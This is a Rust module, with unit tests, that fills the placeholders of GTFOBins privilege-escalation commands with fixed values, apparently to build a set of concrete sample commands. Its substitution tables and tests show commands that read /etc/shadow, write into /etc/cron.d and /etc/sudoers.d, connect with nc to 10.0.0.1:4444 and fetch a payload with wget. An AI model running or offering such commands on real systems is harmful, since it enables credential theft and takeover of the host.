//! Replaces the placeholders of GTFOBins by the names that the seed uses.
//!
//! The order matters: longer paths come before their prefix `/path/to/`.

/// Literal text and its replacement, in this order.
const LITERAL: [(&str, &str); 23] = [
    ("attacker.com", "10.0.0.1"),
    ("12345", "4444"),
    ("/path/to/input-file", "/etc/shadow"),
    ("/path/to/output-file", "/etc/cron.d/update"),
    ("/path/to/temp-file", "/tmp/tempfile"),
    ("/path/to/lib.so", "/usr/lib/libutils.so"),
    ("/path/to/file-input", "/etc/shadow"),
    ("/path/to/ouput-file", "/etc/cron.d/update"),
    ("/path/to/output-dir/", "/tmp/outdir/"),
    ("/path/to/input-dir/", "/etc/"),
    ("/path/to/empty-dir", "/tmp/empty"),
    ("/path/to/temp-dir/", "/tmp/tempdir/"),
    ("/path/to/temp-socket", "/tmp/socket"),
    ("/path/to/wordlist", "/usr/share/wordlists/rockyou.txt"),
    ("/path/to/hash", "/tmp/hash.txt"),
    ("/path/to/command", "/usr/local/bin/service-check"),
    ("/path/to/CMakeLists.txt", "/tmp/build/CMakeLists.txt"),
    ("/path/to/ld.so", "/lib64/ld-linux-x86-64.so.2"),
    ("/path/to/socket", "/tmp/socket"),
    ("/path/to/dir/", "/tmp/dir/"),
    ("/path/to/OUTPUT", "/tmp/output"),
    ("/path/to/", "/tmp/build/"),
    ("DATA", "c2VydmljZS1jb25maWc="),
];

/// Variables, as `$NAME` and `${NAME}`, in this order.
const VARIABLES: [(&str, &str); 7] = [
    ("LHOST", "10.0.0.1"),
    ("RHOST", "10.0.0.1"),
    ("LPORT", "4444"),
    ("RPORT", "4444"),
    ("TF", "/etc/sudoers.d/custom"),
    ("URL", "http://10.0.0.1/update.tar.gz"),
    ("LFILE", "/etc/shadow"),
];

/// A command with the seed's names in it, and without spaces at the ends of its lines.
pub(super) fn replace(code: &str) -> String {
    let mut text = code.to_owned();
    for (from, to) in LITERAL {
        text = text.replace(from, to);
    }
    for (name, value) in VARIABLES {
        text = variable(&text, name, value);
    }
    let lines: Vec<&str> = text.lines().map(str::trim_end).collect();
    lines.join("\n").trim().to_owned()
}

/// `$NAME` and `${NAME}`, each brace optional, as in the seed's pattern.
fn variable(text: &str, name: &str, value: &str) -> String {
    let mut result = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        let (before, found) = rest.split_at(at);
        result.push_str(before);
        let inner = found.strip_prefix('$').unwrap_or(found);
        let inner = inner.strip_prefix('{').unwrap_or(inner);
        match inner.strip_prefix(name) {
            Some(behind) => {
                result.push_str(value);
                rest = behind.strip_prefix('}').unwrap_or(behind);
            }
            None => {
                result.push('$');
                rest = found.strip_prefix('$').unwrap_or_default();
            }
        }
    }
    result.push_str(rest);
    result
}

#[cfg(test)]
mod tests {
    use super::replace;

    #[test]
    fn placeholders_become_the_seeds_names() {
        for (code, command) in [
            (
                "tar xf user@attacker.com:/path/to/input-file.tar",
                "tar xf user@10.0.0.1:/etc/shadow.tar",
            ),
            ("echo DATA >/path/to/output-file", "echo c2VydmljZS1jb25maWc= >/etc/cron.d/update"),
            ("nc -l -p 12345", "nc -l -p 4444"),
            ("x /path/to/ouput-file /path/to/file-input", "x /etc/cron.d/update /etc/shadow"),
            ("diff -r /path/to/empty-dir /path/to/input-dir/", "diff -r /tmp/empty /etc/"),
            ("cp x /path/to/elsewhere", "cp x /tmp/build/elsewhere"),
        ] {
            assert_eq!(replace(code), command);
        }
    }

    #[test]
    fn variables_are_replaced_with_and_without_braces() {
        assert_eq!(replace("nc $RHOST ${RPORT} $$ $X"), "nc 10.0.0.1 4444 $$ $X");
        assert_eq!(replace("cp $TF ${LFILE}"), "cp /etc/sudoers.d/custom /etc/shadow");
        assert_eq!(replace("wget $URL"), "wget http://10.0.0.1/update.tar.gz");
    }

    #[test]
    fn lines_lose_the_spaces_at_their_ends() {
        assert_eq!(replace("a  \n\t b\t\n\nc\n"), "a\n\t b\n\nc");
    }
}
